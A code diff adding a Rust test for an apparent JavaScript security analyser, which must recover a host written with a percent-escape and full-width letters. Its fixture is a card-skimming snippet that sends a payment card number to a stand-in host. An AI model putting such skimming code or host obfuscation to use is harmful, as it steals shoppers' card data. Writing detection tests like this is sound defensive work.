@@ -61,3 +61,23 @@ fn an_object_property_changed_inside_a_function_is_not_a_constant() {
         r.findings
     );
 }
+
+#[test]
+fn a_partly_known_url_names_its_host_as_the_browser_parses_it() {
+    // The URL is not complete (its query is computed), but its host is: written with a
+    // percent-escape and full-width letters, which the browser decodes and maps before it
+    // connects. The host must be named in the form the browser contacts.
+    let r = analyse(
+        "partial_host.js",
+        "document.querySelector('#pay').addEventListener('click', function () {\n\
+           var n = document.getElementById('cc_number').value;\n\
+           new Image().src = 'https://%63ollect.\u{ff45}\u{ff58}ample/i?c=' + btoa(n) + '&t=' + Date.now();\n\
+         });",
+    );
+    let hosts: Vec<&String> = r.findings.iter().flat_map(|f| f.hosts.iter()).collect();
+    assert!(
+        hosts.iter().any(|h| h.as_str() == "collect.example"),
+        "{:?}",
+        r.findings
+    );
+}
